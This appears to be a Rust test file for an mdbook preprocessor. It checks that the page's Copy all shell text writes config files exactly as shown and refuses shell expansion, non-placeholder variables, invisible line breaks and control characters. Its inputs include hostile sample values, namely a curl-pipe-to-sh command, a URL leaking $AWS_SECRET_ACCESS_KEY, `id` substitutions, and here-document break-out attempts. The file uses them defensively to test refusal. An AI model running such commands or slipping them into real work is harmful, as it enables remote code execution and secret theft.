//! Data text in a reader's shell: Copy all must run exactly what the page
//! shows. A config file's here-document ends only at its delimiter, however
//! its text breaks lines; values expand only known placeholders; no other
//! `$NAME` becomes an `export`; control characters are refused.

use std::path::Path;
use std::process::Command;

use mdbook_agentx::{ConfigFile, decode_str};
use serde_json::{Value, json};

use crate::support;

fn mini() -> Value {
    serde_json::from_str(&support::read(&support::fixture("data/mini.json"))).unwrap()
}

/// `mini.json` with `edit` applied, decoded (or the load error).
fn load(edit: impl FnOnce(&mut Value)) -> anyhow::Result<mdbook_agentx::DecodedPage> {
    let mut v = mini();
    edit(&mut v);
    decode_str(&v.to_string(), Path::new("mini.json")).map(|d| d.page)
}

/// The load error of `mini.json` with `edit` applied (the test fails if it
/// loads).
fn refusal(edit: impl FnOnce(&mut Value)) -> String {
    match load(edit) {
        Ok(_) => panic!("the edited data loaded"),
        Err(e) => format!("{e:#}"),
    }
}

/// The config files of every command set of `page`.
fn files(page: &mdbook_agentx::DecodedPage) -> Vec<ConfigFile> {
    page.command_sets()
        .flat_map(|s| {
            let of_processes = s.processes.iter().flat_map(|p| p.files.iter());
            of_processes.chain(s.loose_files.iter()).cloned()
        })
        .collect()
}

/// Runs `script` with bash in `dir`; its exit status.
fn bash_in(dir: &Path, script: &str) -> std::process::ExitStatus {
    Command::new("bash")
        .arg("-c")
        .arg(script)
        .current_dir(dir)
        .status()
        .expect("bash")
}

/// A config file whose text holds a line `EOF` under every line-break form:
/// the here-document Copy all writes it with, read as the reader receives
/// it (the page's text, where CR and CRLF are line breaks, between the
/// head and delimiter the page's selector data gives), writes the file the
/// page shows and runs nothing of it; and it equals what `decode` prints.
#[test]
fn here_documents_end_only_at_their_delimiter() {
    let forms = [
        ("LF", "a\nEOF\ntouch canary\n"),
        ("CR", "a\rEOF\rtouch canary\r"),
        ("CRLF", "a\r\nEOF\r\ntouch canary\r\n"),
        ("mixed", "a\rEOF\r\nEOF_\ntouch canary"),
        ("in a line", "a EOF b\nEOF_\ntouch canary"),
    ];
    for (form, content) in forms {
        let page = load(|v| v["files"]["nats.conf#00000001"]["content"] = json!(content))
            .unwrap_or_else(|e| panic!("{form}: {e:#}"));
        let files: Vec<ConfigFile> = files(&page)
            .into_iter()
            .filter(|f| f.name == "nats.conf")
            .collect();
        assert!(!files.is_empty(), "{form}: no set writes nats.conf");
        for f in files {
            // A page shows every CR and CRLF as a line break.
            let shown = content.replace("\r\n", "\n").replace('\r', "\n");
            let (head, delim) = f.heredoc();
            let received = format!("{head}\n{}\n{delim}", shown.trim_end());
            assert_eq!(
                f.copy_text(),
                format!("# {} (written next to the commands)\n{received}", f.name),
                "{form}: Copy all differs from decode"
            );
            let dir = support::temp("heredoc");
            std::fs::create_dir(&*dir).unwrap();
            assert!(bash_in(&dir, &received).success(), "{form}: {received}");
            assert!(
                !dir.join("canary").exists(),
                "{form}: the here-document ended early:\n{received}"
            );
            let written = support::read(&dir.join(&f.name));
            assert_eq!(written, format!("{}\n", shown.trim_end()), "{form}");
        }
    }
}

/// Line breaks a page shows and a shell does not read (U+2028, U+2029,
/// NEL) are refused in config files and commands, with the JSON path.
#[test]
fn invisible_line_breaks_are_refused() {
    for c in ['\u{2028}', '\u{2029}', '\u{85}'] {
        let msg = refusal(|v| {
            v["files"]["nats.conf#00000001"]["content"] = json!(format!("a{c}EOF{c}touch canary"))
        });
        assert!(
            msg.contains("files.nats.conf#00000001.content: U+"),
            "{msg}"
        );
        let msg = refusal(|v| v["envs"][0]["X"] = json!(format!("a{c}b")));
        assert!(msg.contains("envs[0].X: U+"), "{msg}");
    }
}

/// Shell expansion other than `$NAME`/`${NAME}` of a known placeholder is
/// refused in command text, wherever the data puts it: it would assign,
/// run or read the reader's environment.
#[test]
fn expansion_in_values_is_refused() {
    let values = [
        ("${NODE_IP:=10.0.0.1}", "`${NODE_IP:…` is shell expansion"),
        ("x${NODE_IP:-$(id)}", "`${NODE_IP:…` is shell expansion"),
        ("$(curl -s example.com | sh)", "`$(…` is shell expansion"),
        (
            "http://example.com/$AWS_SECRET_ACCESS_KEY",
            "`$AWS_SECRET_ACCESS_KEY` is not a placeholder",
        ),
        ("`id`", "`` ` `` at character 1"),
    ];
    for (value, want) in values {
        for (path, edit) in [
            (
                "envs[0].X",
                &(|v: &mut Value, s: &str| v["envs"][0]["X"] = json!(s))
                    as &dyn Fn(&mut Value, &str),
            ),
            ("kvMooncake.args[1][1]", &|v, s| {
                v["kvMooncake"]["args"][1][1] = json!(s)
            }),
            ("cells[0].setup[0].command", &|v, s| {
                v["cells"][0]["setup"][0]["command"] = json!(s)
            }),
        ] {
            let msg = refusal(|v| edit(v, value));
            assert!(msg.contains(&format!("{path}: {want}")), "{value}: {msg}");
        }
    }
}

/// `$PATH` and the other variables a shell relies on: refused in commands;
/// in a config file (written by a quoted here-document, so never expanded)
/// they stay literal and never become `export` lines of Copy all.
#[test]
fn only_known_placeholders_are_exported() {
    let names = [
        "PATH",
        "LD_LIBRARY_PATH",
        "LD_PRELOAD",
        "IFS",
        "BASH_ENV",
        "HOME",
    ];
    for name in names {
        let msg = refusal(|v| v["envs"][0]["X"] = json!(format!("${name}:/opt")));
        assert!(
            msg.contains(&format!("envs[0].X: `${name}` is not a placeholder")),
            "{msg}"
        );
    }
    let content: String = names.iter().map(|n| format!("v ${n};\n")).collect();
    let page = load(|v| v["files"]["nats.conf#00000001"]["content"] = json!(content)).unwrap();
    let mut checked = 0;
    for s in page.command_sets() {
        let text = s.copy_all_text();
        for name in names {
            assert!(
                !text.contains(&format!("export {name}=")),
                "{}: {text}",
                s.anchor
            );
        }
        checked += usize::from(text.contains("v $PATH;"));
    }
    assert!(checked > 0, "no set writes the file");
}

/// Control characters are refused in every string (with its JSON path),
/// and in commands a CR too (the page shows it as a line break).
#[test]
fn control_characters_are_refused() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "/cells/0/label",
            "Agg\u{1b}[2K TP4",
            "cells[0].label: U+001B at character 4",
        ),
        (
            "/cells/0/label",
            "x\u{0}",
            "cells[0].label: U+0000 at character 2",
        ),
        ("/cells/0/detail", "x\u{7f}", "cells[0].detail: U+007F"),
        ("/hardware/0/label", "\u{9b}2K", "hardware[0].label: U+009B"),
        ("/envs/0/X", "a\rb", "envs[0].X: U+000D"),
        ("/envs/0/X", "x\u{202e}y", "envs[0].X: U+202E"),
    ];
    for (ptr, value, want) in cases {
        let msg = refusal(|v| {
            let (parent, key) = ptr.rsplit_once('/').unwrap();
            v.pointer_mut(parent).unwrap()[key] = json!(value);
        });
        assert!(msg.contains(want), "{value:?}: {msg}");
    }
}
